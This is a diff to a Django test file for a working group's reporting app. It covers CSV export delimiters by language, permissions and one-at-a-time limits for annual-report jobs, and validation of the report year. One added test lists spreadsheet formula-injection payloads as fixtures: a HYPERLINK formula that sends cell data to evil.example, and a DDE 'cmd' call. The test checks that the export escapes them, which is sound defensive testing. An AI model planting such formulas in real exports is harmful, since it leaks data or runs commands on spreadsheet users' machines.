@@ -149,6 +149,8 @@ def test_the_demo_reproduces_the_seeds_sentence():
 
 
 def test_csv_opens_in_a_spanish_spreadsheet_and_round_trips(client, group):
+    """The separator follows the reader's language: a comma in English, a semicolon in a
+    Spanish-locale spreadsheet (whose comma is the decimal separator)."""
     make_activity(
         group,
         title="Capacitación en Áncash: uso de la fuerza; derechos",
@@ -169,11 +171,62 @@ def test_csv_opens_in_a_spanish_spreadsheet_and_round_trips(client, group):
     )
     data = response.content
     assert data.startswith(b"\xef\xbb\xbf")
-    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=","))
     assert rows[0][:4] == ["Date", "Until", "Title", "Kind"]
     assert rows[1][2] == "Capacitación en Áncash: uso de la fuerza; derechos"
     assert rows[1][5] == "Áncash" and rows[1][6] == "Sociedad Peruana de Derecho"
     assert (rows[1][9], rows[1][10], rows[1][11]) == ("40", "8", "32")
+    client.cookies["vpswg_language"] = "es"
+    data = client.get(
+        reverse("reports:csv", kwargs={"wg": group.slug}) + "?start=2014&end=2014"
+    ).content
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+    assert rows[0][:3] == ["Fecha", "Hasta", "Título"] and len(rows[1]) == len(rows[0])
+    assert rows[1][2] == "Capacitación en Áncash: uso de la fuerza; derechos"
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
+
+
+@pytest.mark.parametrize("language", ["en", "es"])
+def test_no_cell_of_the_export_opens_as_a_formula(client, group, language):
+    """Members may propose activities: every free-text column (title, place, region,
+    organisers, partners, funders) is written so that a spreadsheet shows it as text."""
+    for n, formula in enumerate(FORMULAS):
+        make_activity(
+            group,
+            title=formula,
+            place=formula,
+            region=formula,
+            partners=formula,
+            funders=formula,
+            start_date=date(2015, 1, 1 + n),
+            organisers=[make_institution(group, name=f"{formula} {n}")],
+        )
+    sign_in(client, make_member(group))
+    client.cookies["vpswg_language"] = language
+    data = client.get(reverse("reports:csv", kwargs={"wg": group.slug})).content
+    rows = list(
+        csv.reader(
+            io.StringIO(data.decode("utf-8-sig"), newline=""),
+            delimiter="," if language == "en" else ";",
+        )
+    )
+    assert len(rows) == len(FORMULAS) + 1
+    for row in rows[1:]:
+        for column in (2, 4, 5, 6, 7, 8):
+            assert row[column].startswith("'"), (column, row[column])
+            assert row[column][1:].lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert row[9].isdigit()  # numbers stay numbers
 
 
 def test_reports_page_draws_charts_with_their_tables(client, group):
@@ -431,7 +484,7 @@ def test_annual_report_in_the_background_with_progress(
         counts=[("business", 42, None, None)],
     )
     make_meeting(group, "held", days=-400)
-    user = make_member(group)
+    user = make_coordination(group)
     sign_in(client, user)
     with django_capture_on_commit_callbacks(execute=True):
         response = client.post(
@@ -450,10 +503,37 @@ def test_annual_report_in_the_background_with_progress(
         ["pdftotext", str(path), "-"], capture_output=True, text=True, check=True
     ).stdout
     assert "Seminario de Arequipa" in text and "42" in text and "2025" in text
-    # Another member cannot see this member's job.
+    # Another seat cannot see this seat's job.
     client.logout()
-    sign_in(client, make_member(group))
+    sign_in(client, make_coordination(group, "government"))
     assert client.get(job_url).status_code == 404
+
+
+def test_the_annual_report_is_prepared_once_at_a_time_by_those_who_need_it(client, group):
+    """A PDF is expensive: a member may not start one; a seat gets one job at a time; a
+    year out of range is refused with a message and starts nothing."""
+    url = reverse("reports:annual", kwargs={"wg": group.slug})
+    sign_in(client, make_member(group))
+    assert client.post(url, {"year": "2025"}).status_code == 403
+    client.logout()
+    seat = make_coordination(group)
+    sign_in(client, seat)
+    for year in ("-1", "0", "1999", "99999999999999999999", "abc", "", "2999"):
+        response = client.post(url, {"year": year}, follow=True)
+        assert response.status_code == 200, year
+        body = response.content.decode()
+        assert any(
+            m in body
+            for m in ("Choose a year from 2000", "Enter the year as a number", "Choose the year")
+        ), year
+    with group_scope(group):
+        assert not ReportJob.objects.exists()
+    first = client.post(url, {"year": "2025"})
+    again = client.post(url, {"year": "2024"}, follow=True)
+    with group_scope(group):
+        job = ReportJob.objects.get()  # no worker ran it: still waiting, so not started twice
+    assert first["Location"].endswith(f"/{job.pk}/") and job.year == 2025
+    assert "still being prepared" in again.content.decode()
 
 
 def test_a_queued_job_shows_polling(client, group):
